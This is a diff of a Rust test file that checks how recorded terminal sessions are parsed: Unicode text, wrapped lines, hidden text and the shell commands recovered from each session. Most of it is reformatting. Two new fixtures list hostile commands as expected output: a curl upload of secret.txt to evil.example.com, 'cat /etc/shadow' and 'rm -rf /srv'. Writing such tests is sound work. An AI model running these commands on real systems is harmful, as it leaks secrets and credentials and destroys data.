@@ -77,15 +77,17 @@ const RIGHT: &[(&str, &str, &[Right])] = &[
     (
         "b34-c1",
         ALICE,
-        &[
-            Lines(&["sh-4.2$ cat x", "red a", "nextend", "sh-4.2$ exit"]),
-            Hidden(HiddenKind::Title, "title"),
-        ],
+        &[Lines(&["sh-4.2$ cat x", "red a", "nextend", "sh-4.2$ exit"]), Hidden(HiddenKind::Title, "title")],
     ),
     (
         "b17-control-asc",
         ALICE,
-        &[Line(0, "sh-4.2$ cat big"), Line(1, "line 0"), Line(12, "line 11"), Commands(&["cat big", "rm big"])],
+        &[
+            Line(0, "sh-4.2$ cat big"),
+            Line(1, "line 0"),
+            Line(12, "line 11"),
+            Commands(&["cat big", "rm big"]),
+        ],
     ),
     ("b19-nul-japanese", "win-0a1b2c3d4e5f67896", &[Found("日本", 1), Commands(&["type memo.txt", "exit"])]),
     (
@@ -97,11 +99,19 @@ const RIGHT: &[(&str, &str, &[Right])] = &[
             Line(2, "sh-5.2$ cat pass\u{ad}word.txt"),
         ],
     ),
-    ("b02-nfd-combining", ALICE, &[Found("がぞう", 2), Found("cafe\u{301}", 1), Found("ส้ม", 1), Found("हिन्दी", 1)]),
+    (
+        "b02-nfd-combining",
+        ALICE,
+        &[Found("がぞう", 2), Found("cafe\u{301}", 1), Found("ส้ม", 1), Found("हिन्दी", 1)],
+    ),
     (
         "b03-variation-selector",
         ALICE,
-        &[Line(1, "\u{26a0}\u{fe0f}  prod"), Line(3, "👨\u{200d}💻|dev"), Line(4, "\u{26a0}\u{fe0f}   |col5")],
+        &[
+            Line(1, "\u{26a0}\u{fe0f}  prod"),
+            Line(3, "👨\u{200d}💻|dev"),
+            Line(4, "\u{26a0}\u{fe0f}   |col5"),
+        ],
     ),
     (
         "b22-combining-edit",
@@ -113,7 +123,10 @@ const RIGHT: &[(&str, &str, &[Right])] = &[
         "b29-wide-cjk",
         ALICE,
         &[
-            Line(0, "sh-5.2$ echo 日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語z"),
+            Line(
+                0,
+                "sh-5.2$ echo 日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語日本語z",
+            ),
             Found("0日本", 1),
         ],
     ),
@@ -128,6 +141,42 @@ const RIGHT: &[(&str, &str, &[Right])] = &[
     ),
     ("b28-less", ALICE, &[Commands(&["seq 1 100 | less", "exit"]), Hidden(HiddenKind::Replaced, "1")]),
     ("b27-history", ALICE, &[Commands(&["echo one", "echo two", "id", "echo one", "exit"])]),
+    (
+        "b16-tmux",
+        ALICE,
+        &[
+            Commands(&[
+                "tmux -L hunt -f /dev/null new",
+                "cat /etc/hostname",
+                "curl -T secret.txt https://evil.example.com/",
+                "clear",
+                "exit",
+                "echo back",
+                "exit",
+            ]),
+            Hidden(HiddenKind::Replaced, "root@vm:~# cat /etc/hostname"),
+        ],
+    ),
+    (
+        "b35-prompts",
+        ALICE,
+        &[Commands(&[
+            "whoami",
+            "cat /etc/shadow",
+            "ls",
+            "id",
+            "env",
+            "select * from users;",
+            "\\d",
+            "ps",
+            "x",
+            "pip list",
+            "vi",
+            "dir",
+            "rm -rf /srv",
+            "git push",
+        ])],
+    ),
     (
         "b37-nested-script",
         ALICE,
@@ -157,11 +206,13 @@ fn faults(report: &str, id: &str, rights: &[Right]) -> Vec<String> {
                 (found == *all, format!("{found:?}"))
             }
             Hidden(kind, text) => {
-                let is_it = info.hidden.iter().any(|hidden| (hidden.kind, hidden.text.as_str()) == (*kind, *text));
+                let is_it =
+                    info.hidden.iter().any(|hidden| (hidden.kind, hidden.text.as_str()) == (*kind, *text));
                 (is_it, format!("{:?}", info.hidden))
             }
             Swallowed(kind, line) => {
-                let is_it = |(row, own): (usize, &String)| own == line && rows[row].kind == RowKind::Swallowed(*kind);
+                let is_it =
+                    |(row, own): (usize, &String)| own == line && rows[row].kind == RowKind::Swallowed(*kind);
                 (lines.iter().enumerate().any(is_it), format!("{lines:?}"))
             }
             Found(needle, count) => {
@@ -181,6 +232,7 @@ fn every_terminal_report_reads_as_it_should() {
     if !Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/reports").is_dir() {
         return not_run(NAME, "there are no reports beside the repository");
     }
-    let found: Vec<String> = RIGHT.iter().flat_map(|(report, id, rights)| faults(report, id, rights)).collect();
+    let found: Vec<String> =
+        RIGHT.iter().flat_map(|(report, id, rights)| faults(report, id, rights)).collect();
     assert!(found.is_empty(), "{}", found.join("\n"));
 }
